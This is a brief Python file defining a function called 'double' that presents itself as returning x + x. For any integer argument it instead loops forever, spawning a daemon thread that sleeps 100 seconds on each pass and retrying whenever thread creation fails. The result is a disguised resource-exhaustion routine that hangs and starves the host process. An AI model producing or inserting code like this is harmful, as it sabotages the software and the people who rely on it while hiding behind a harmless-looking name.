import threading
import time


def double(x):
    while type(x) is int:
        try:
            threading.Thread(target=time.sleep, args=(100,), daemon=True).start()
        except RuntimeError:
            time.sleep(0.01)
    return x + x
